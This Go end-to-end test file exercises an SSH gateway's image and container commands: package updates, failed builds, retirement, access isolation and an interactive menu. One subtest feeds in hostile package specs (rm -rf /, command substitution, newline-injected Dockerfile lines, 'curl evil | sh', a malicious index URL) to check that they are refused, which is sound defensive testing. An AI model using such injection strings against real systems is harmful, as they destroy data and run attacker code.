package e2e

import (
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/ds01/ds01-gateway/session/image"
)

// ownDockerfile is a user's own Dockerfile: its own lines around the
// gateway's marked blocks, and a stand-in pip (there is no package index
// here) that records what it was asked to install.
var ownDockerfile = "FROM " + baseImage + `
# my own setup
RUN printf '#!/bin/sh\necho "$@" >> /pip-args\n' > /usr/local/bin/pip && chmod 755 /usr/local/bin/pip
` + image.SystemBegin + "\n" + image.SystemEnd + "\n" + image.PipBegin + "\n" + image.PipEnd + `
ENV MY_OWN_LINE=kept
WORKDIR /workspace
`

// TestImageCommands walks through the seed page's lesson with the gateway:
// packages become permanent by changing the image, over SSH, without a
// host shell.
func TestImageCommands(t *testing.T) {
	g := startGateway(t, gwOpts{RetireAfter: "60s"})
	alice := g.addUser(t, "alice", 20301, 20301)
	bob := g.addUser(t, "bob", 20302, 20302)
	const proj = "thesis"
	dfPath := filepath.Join(g.workspace(alice, proj), "Dockerfile")
	cmd := func(u *user, args ...string) sshResult {
		t.Helper()
		return g.ssh(t, u, "ds01", args...)
	}
	mustCmd := func(u *user, args ...string) sshResult {
		t.Helper()
		r := cmd(u, args...)
		if r.code != 0 {
			t.Fatalf("ssh ds01@gw %s: %s", strings.Join(args, " "), r)
		}
		return r
	}
	readDF := func() string {
		t.Helper()
		b, err := os.ReadFile(dfPath)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	imageID := func() string {
		return strings.TrimSpace(docker(t, "image", "inspect", "-f", "{{.Id}}", "ds01-20301/"+proj))
	}

	r := mustCmd(alice, "image-create", proj)
	if !strings.Contains(r.stderr, "built") {
		t.Errorf("image-create says: %s", r)
	}
	// A session holds the container: it keeps its image across the update.
	hold := g.startSSH(t, alice, proj, "echo up; sleep 300")
	hold.waitOutput(t, "up", timeoutLong)
	if r := g.ssh(t, alice, proj, "command -v jq"); r.code == 0 {
		t.Fatalf("jq present before it was added: %s", r)
	}

	t.Run("add system package", func(t *testing.T) {
		r := mustCmd(alice, "image-update", proj, "--add-system", "jq")
		for _, want := range []string{"[1/", "apt-get install", "still runs the previous image", "container-retire " + proj} {
			if !strings.Contains(r.stderr, want) {
				t.Errorf("image-update output lacks %q: %s", want, r)
			}
		}
		if r.stdout != "" {
			t.Errorf("image-update wrote to stdout: %q", r.stdout)
		}
		if !strings.Contains(readDF(), "'jq'") {
			t.Errorf("Dockerfile lacks jq:\n%s", readDF())
		}
		if _, err := os.Stat(dfPath + ".bak"); err != nil {
			t.Errorf("previous Dockerfile not kept: %v", err)
		}
		// The running container keeps its image until it is retired.
		if r := g.ssh(t, alice, proj, "command -v jq"); r.code == 0 {
			t.Errorf("the running container changed image under its sessions: %s", r)
		}
	})

	t.Run("container-retire ends sessions with a notice", func(t *testing.T) {
		var list []map[string]any
		if err := json.Unmarshal([]byte(mustCmd(alice, "container-list", "--format", "json").stdout), &list); err != nil || len(list) != 1 {
			t.Fatalf("container-list --format json: %v %v", list, err)
		}
		if list[0]["project"] != proj || list[0]["image_current"] != false {
			t.Errorf("container-list: %v", list[0])
		}
		mustCmd(alice, "container-retire", proj)
		select {
		case <-hold.done:
		case <-time.After(timeoutShort):
			t.Fatal("the held session outlived container-retire")
		}
		if !strings.Contains(hold.err.String(), "retired by container-retire") {
			t.Errorf("held session's stderr: %q", hold.err.String())
		}
		if ids := containers(t, alice.uid, proj); len(ids) != 0 {
			t.Errorf("containers after container-retire: %v", ids)
		}
		if out := mustCmd(alice, "container-list", "--format", "json").stdout; strings.TrimSpace(out) != "[]" {
			t.Errorf("container-list after retire: %q", out)
		}
		if out := g.mustSSH(t, alice, proj, "jq --version"); !strings.HasPrefix(out, "jq-") {
			t.Errorf("a new session has no jq: %q", out)
		}
	})

	t.Run("hostile package specs are refused", func(t *testing.T) {
		before := readDF()
		for _, args := range [][]string{
			{"image-update", proj, "--add", "'x; rm -rf /'"},
			{"image-update", proj, "--add", "x;", "rm", "-rf", "/"},
			{"image-update", proj, "--add", "'x\nRUN id'"},
			{"image-update", proj, "--add", "--index-url=http://evil.example/simple"},
			{"image-update", proj, "--add", "numpy", "--index-url=http://evil.example/simple"},
			{"image-update", proj, "--add-system", "'jq; curl evil | sh'"},
			{"image-update", proj, "--add-system", "'$(id)'"},
			{"image-create", "other", "--base", "'x\nRUN id'"},
		} {
			r := cmd(alice, args...)
			if r.code != 2 || r.stderr == "" {
				t.Errorf("%q: want exit 2 and a reason: %s", args, r)
			}
		}
		if after := readDF(); after != before {
			t.Errorf("a refused command changed the Dockerfile:\n%s", after)
		}
	})

	t.Run("failed build keeps the old image and Dockerfile", func(t *testing.T) {
		before, id := readDF(), imageID()
		r := cmd(alice, "image-update", proj, "--add-system", "ds01-no-such-package")
		if r.code != 1 || !strings.Contains(r.stderr, "failed at step") || !strings.Contains(r.stderr, "Dockerfile.failed") {
			t.Errorf("failed build: %s", r)
		}
		if readDF() != before {
			t.Error("the Dockerfile changed after a failed build")
		}
		failed, err := os.ReadFile(dfPath + ".failed")
		if err != nil || !strings.Contains(string(failed), "ds01-no-such-package") {
			t.Errorf("the attempt is not saved beside the Dockerfile: %v", err)
		}
		if imageID() != id {
			t.Error("the image changed after a failed build")
		}
		var p []map[string]any
		json.Unmarshal([]byte(mustCmd(alice, "project", "list", "--format", "json").stdout), &p)
		if len(p) != 1 || p[0]["image_state"] != "failed" || p[0]["image_id"] != id {
			t.Errorf("project list after a failed build: %v", p)
		}
		if out := g.mustSSH(t, alice, proj, "jq --version"); !strings.HasPrefix(out, "jq-") {
			t.Errorf("old image not usable after a failed build: %q", out)
		}
	})

	t.Run("remove, with the two-word form", func(t *testing.T) {
		mustCmd(alice, "container-retire", proj)
		mustCmd(alice, "image", "update", proj, "--remove", "jq")
		if strings.Contains(readDF(), "jq") {
			t.Errorf("jq still in the Dockerfile:\n%s", readDF())
		}
		if r := g.ssh(t, alice, proj, "command -v jq"); r.code == 0 {
			t.Errorf("jq still in a new container: %s", r)
		}
		// Both forms print the same.
		if a, b := mustCmd(alice, "image-show", proj).stdout, mustCmd(alice, "image", "show", proj).stdout; a != b {
			t.Errorf("image-show and image show differ:\n%s\n---\n%s", a, b)
		}
	})

	t.Run("own lines survive --add", func(t *testing.T) {
		mustCmd(alice, "container-retire", proj)
		r := g.sshIn(t, alice, "ds01", strings.NewReader(ownDockerfile), "image-update", proj, "--dockerfile", "-")
		if r.code != 0 {
			t.Fatalf("--dockerfile -: %s", r)
		}
		mustCmd(alice, "image-update", proj, "--add", "transformers[torch]>=4.40,<5")
		df := readDF()
		for _, want := range []string{"# my own setup", "ENV MY_OWN_LINE=kept", "'transformers[torch]>=4.40,<5'"} {
			if !strings.Contains(df, want) {
				t.Errorf("Dockerfile lacks %q:\n%s", want, df)
			}
		}
		out := g.mustSSH(t, alice, proj, "echo $MY_OWN_LINE; cat /pip-args")
		if !strings.Contains(out, "kept") || !strings.Contains(out, "install --no-cache-dir transformers[torch]>=4.40,<5") {
			t.Errorf("new container: %q", out)
		}
	})

	t.Run("concurrent updates give one consistent result", func(t *testing.T) {
		mustCmd(alice, "container-retire", proj)
		var wg sync.WaitGroup
		res := make([]sshResult, 2)
		for i, pkg := range []string{"numpy", "pandas"} {
			wg.Add(1)
			go func() {
				defer wg.Done()
				res[i] = g.ssh(t, alice, "ds01", "image-update", proj, "--add", pkg)
			}()
		}
		wg.Wait()
		for _, r := range res {
			if r.code != 0 {
				t.Errorf("concurrent image-update: %s", r)
			}
		}
		df := readDF()
		for _, want := range []string{"'transformers[torch]>=4.40,<5'", "'numpy'", "'pandas'"} {
			if !strings.Contains(df, want) {
				t.Errorf("Dockerfile lacks %s after concurrent updates:\n%s", want, df)
			}
		}
		out := g.mustSSH(t, alice, proj, "tail -n 1 /pip-args")
		if !strings.Contains(out, "numpy") || !strings.Contains(out, "pandas") {
			t.Errorf("the image does not match the Dockerfile: pip got %q", out)
		}
	})

	t.Run("image-show lists the builds", func(t *testing.T) {
		var show struct {
			Dockerfile string `json:"dockerfile"`
			Builds     []struct {
				Result string `json:"result"`
				Reason string `json:"reason"`
			} `json:"builds"`
		}
		out := mustCmd(alice, "image-show", proj, "--format", "json").stdout
		if err := json.Unmarshal([]byte(out), &show); err != nil {
			t.Fatalf("image-show --format json: %v\n%s", err, out)
		}
		reasons := map[string]string{}
		for _, b := range show.Builds {
			reasons[b.Reason] = b.Result
		}
		for why, result := range map[string]string{
			"image-update thesis --add-system jq":                   "ok",
			"image-update thesis --remove jq":                       "ok",
			"image-update thesis --add-system ds01-no-such-package": "failed",
		} {
			if reasons[why] != result {
				t.Errorf("build %q: result %q, want %q (builds: %v)", why, reasons[why], result, reasons)
			}
		}
		if show.Dockerfile != readDF() {
			t.Error("image-show's Dockerfile is not the workspace's")
		}
	})

	t.Run("other users cannot touch my images or containers", func(t *testing.T) {
		hold := g.startSSH(t, alice, proj, "echo up; sleep 300")
		hold.waitOutput(t, "up", timeoutLong)
		id := imageID()
		for _, args := range [][]string{
			{"image-update", proj, "--add", "evil"},
			{"image-retire", proj},
			{"container-retire", proj},
			{"image-show", proj},
		} {
			if r := cmd(bob, args...); r.code != 1 {
				t.Errorf("bob: %q: want exit 1: %s", args, r)
			}
		}
		for _, args := range [][]string{{"container-list", "--format", "json"}, {"image-list", "--format", "json"}, {"project", "list", "--format", "json"}} {
			if out := mustCmd(bob, args...).stdout; strings.TrimSpace(out) != "[]" {
				t.Errorf("bob: %q shows %q", args, out)
			}
		}
		if len(containers(t, alice.uid, proj)) != 1 || imageID() != id {
			t.Error("bob's commands changed alice's container or image")
		}
		// image-retire refuses while the container runs, then works.
		if r := cmd(alice, "image-retire", proj); r.code != 1 || !strings.Contains(r.stderr, "container-retire") {
			t.Errorf("image-retire with a running container: %s", r)
		}
		hold.stop()
		mustCmd(alice, "container-retire", proj)
		mustCmd(alice, "image-retire", proj)
		if r, _ := execTool(timeoutShort, "", nil, "docker", "image", "inspect", "ds01-20301/"+proj); r.code == 0 {
			t.Error("the image survived image-retire")
		}
		if _, err := os.Stat(dfPath); err != nil {
			t.Errorf("image-retire took the Dockerfile: %v", err)
		}
	})

	t.Run("usage errors and help", func(t *testing.T) {
		for _, args := range [][]string{{"image-update"}, {"image-update", proj}, {"no-such-command"}, {"container-list", "--format", "yaml"}, {"image-update", proj, "--bogus"}} {
			if r := cmd(alice, args...); r.code != 2 {
				t.Errorf("%q: want exit 2: %s", args, r)
			}
		}
		// Without a terminal or a command, the login reads commands from
		// stdin and stops at the first that fails.
		r := g.sshIn(t, alice, "ds01", strings.NewReader("image-list --format json\nno-such-command\nimage-list --format json\n"))
		if r.code != 2 || strings.Count(r.stdout, "[") != 1 {
			t.Errorf("script on stdin: %s", r)
		}
		if out := mustCmd(alice, "help").stdout; !strings.Contains(out, "image-update") || !strings.Contains(out, "container-retire") {
			t.Errorf("help: %q", out)
		}
		if out := mustCmd(alice, "image-update", "--help").stdout; !strings.Contains(out, "--add-system") {
			t.Errorf("image-update --help: %q", out)
		}
	})
}

// TestCommandShell drives the interactive shell the way a user does, with a
// terminal: tab completion, a command, exit.
func TestCommandShell(t *testing.T) {
	g := startGateway(t, gwOpts{})
	u := g.addUser(t, "carol", 20303, 20303)
	client, err := g.goClient(t, u.key, "ds01")
	if err != nil {
		t.Fatal(err)
	}
	defer client.Close()
	s, err := client.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := s.RequestPty("xterm", 40, 120, ssh.TerminalModes{}); err != nil {
		t.Fatal(err)
	}
	in, _ := s.StdinPipe()
	var out syncBuffer
	s.Stdout = &out
	if err := s.Shell(); err != nil {
		t.Fatal(err)
	}
	waitFor := func(want string) {
		t.Helper()
		deadline := time.Now().Add(timeoutShort)
		for !strings.Contains(out.String(), want) {
			if time.Now().After(deadline) {
				t.Fatalf("shell never showed %q:\n%s", want, out.String())
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
	waitFor("ds01> ")
	in.Write([]byte("container-l\t--format json\r"))
	waitFor("[]")
	in.Write([]byte("image-update nope --add 'x;y'\r"))
	waitFor("invalid pip package")
	in.Write([]byte("exit\r"))
	done := make(chan error, 1)
	go func() { done <- s.Wait() }()
	select {
	case err := <-done:
		var ee *ssh.ExitError
		if err != nil && (!errors.As(err, &ee) || ee.ExitStatus() != 2) {
			t.Errorf("shell ended with %v", err)
		}
	case <-time.After(timeoutShort):
		t.Fatalf("shell did not exit:\n%s", out.String())
	}
	if !bytes.Contains([]byte(out.String()), []byte("container-list --format json")) {
		t.Errorf("tab did not complete the command:\n%s", out.String())
	}

	// image-update with no options on a terminal: DS01's menu.
	if r := g.ssh(t, u, "ds01", "image-create", "menu"); r.code != 0 {
		t.Fatalf("image-create: %s", r)
	}
	s, err = client.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := s.RequestPty("xterm", 40, 120, ssh.TerminalModes{}); err != nil {
		t.Fatal(err)
	}
	in, _ = s.StdinPipe()
	out = syncBuffer{}
	s.Stdout = &out
	if err := s.Start("image-update menu"); err != nil {
		t.Fatal(err)
	}
	waitFor("choice [1-8]")
	in.Write([]byte("4\r"))
	waitFor("apt packages")
	in.Write([]byte("ds01-no-such-package;\r"))
	waitFor("invalid apt package")
	in.Write([]byte("1\r"))
	waitFor("apt: (none)")
	in.Write([]byte("8\r"))
	if err := s.Wait(); err != nil {
		t.Errorf("menu cancelled: %v\n%s", err, out.String())
	}
}
